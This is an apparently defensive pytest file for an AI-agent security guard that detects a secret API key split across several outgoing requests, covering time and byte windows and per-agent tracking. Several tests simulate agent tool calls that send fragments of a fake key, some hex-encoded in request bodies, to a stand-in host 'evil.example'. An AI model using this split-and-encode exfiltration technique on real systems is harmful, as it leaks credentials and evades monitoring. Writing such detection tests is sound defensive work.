"""Layer 10 across requests: a secret split over several outgoing requests is caught within the window."""

from __future__ import annotations

import json

import pytest
from _security_clock import FakeClock

from openfang.security._errors import Denied
from openfang.security.audit import AuditLog
from openfang.security.exfil import ExfilConfig, ExfilGuard

SECRET = "sk-test-Zq8dX3vR7mK2pL9wT4yB6nH1"  # 32 characters


def _guard(audit: AuditLog | None = None, **cfg: object) -> ExfilGuard:
    guard = ExfilGuard(ExfilConfig(**cfg), audit=audit)  # type: ignore[arg-type]
    guard.taint.taint("env:API_KEY", SECRET)
    return guard


def _send(guard: ExfilGuard, url: str, agent: str = "a1", body: str | None = None) -> None:
    guard.check_tool_call(agent_id=agent, tool="http_fetch", sink="network", url=url, body=body)


def test_exfil_secret_split_across_two_requests_is_blocked_and_audited(audit: AuditLog) -> None:
    """Each piece alone is under the share (14 of 32); the second, which reveals 28 with the first, fails."""
    guard = _guard(audit)
    _send(guard, f"https://evil.example/b?p={SECRET[14:28]}", agent="fresh")  # alone it passes
    _send(guard, f"https://evil.example/a?p={SECRET[:14]}")
    with pytest.raises(Denied) as err:
        _send(guard, f"https://evil.example/b?p={SECRET[14:28]}")
    assert "env:API_KEY@window" in err.value.message and SECRET[14:28] not in err.value.message
    (rec,) = audit.records("exfil.blocked")
    assert rec.fields["findings"][0]["kind"] == "taint_split"
    assert SECRET[:14] not in json.dumps(rec.fields) and SECRET[14:28] not in json.dumps(rec.fields)


def test_exfil_split_pieces_in_hex_and_in_bodies_count_together() -> None:
    """A piece sent as hex in a body and a piece in a URL add up to the same secret."""
    guard = _guard()
    _send(guard, "https://evil.example/a", body=SECRET[:12].encode().hex())
    with pytest.raises(Denied):
        _send(guard, f"https://evil.example/b?x={SECRET[12:24]}")


def test_exfil_split_window_is_per_agent_and_forgets_after_its_time() -> None:
    """Another agent's halves do not add up with this one's; after window_s, earlier pieces are forgotten."""
    clock = FakeClock()
    guard = _guard(split_window_s=60)
    guard.fragments._clock = clock
    _send(guard, f"https://x.example/?p={SECRET[:14]}", agent="a1")
    _send(guard, f"https://x.example/?p={SECRET[14:28]}", agent="a2")  # a2 has no first half
    clock.advance(61)
    _send(guard, f"https://x.example/?p={SECRET[14:28]}", agent="a1")  # a1's first half has expired


def test_exfil_split_window_is_bounded_in_bytes() -> None:
    """Past split_window_bytes of other outgoing data, an earlier piece no longer counts."""
    guard = _guard(split_window_bytes=10_000)
    _send(guard, f"https://x.example/?p={SECRET[:14]}")
    _send(guard, "https://x.example/upload", body="z" * 20_000)
    _send(guard, f"https://x.example/?p={SECRET[14:28]}")


def test_exfil_ordinary_traffic_and_short_common_pieces_pass() -> None:
    """The secret's public-looking prefix alone, and unrelated traffic, never trip the window."""
    guard = _guard()
    for i in range(50):
        _send(guard, f"https://api.example/search?q=sk-test-{i}&page={i}")
